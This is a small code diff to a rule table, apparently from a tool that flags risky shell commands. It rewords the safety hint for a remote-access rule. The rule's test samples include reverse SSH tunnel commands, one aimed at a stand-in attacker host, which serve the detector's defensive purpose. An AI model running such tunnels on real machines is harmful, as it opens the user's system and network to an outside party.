@@ -99,7 +99,7 @@ export const EXFILTRATION_RULES: readonly Rule[] = [
     weight: [3, 3],
     threat: "remote_access",
     explanation: "It lets the other end of the connection reach into this machine or its network.",
-    safer: "Connect from outside through the way that your administrators have opened.",
+    safer: "Connect through a port that your administrators have opened.",
     hits: ["ssh -R 2222:localhost:22 evil@203.0.113.9 -N", "autossh -M 0 -R 8080:localhost:80 h"],
     misses: ["ssh -L 8080:localhost:80 web1", "ssh -T git@github.com"],
   }),
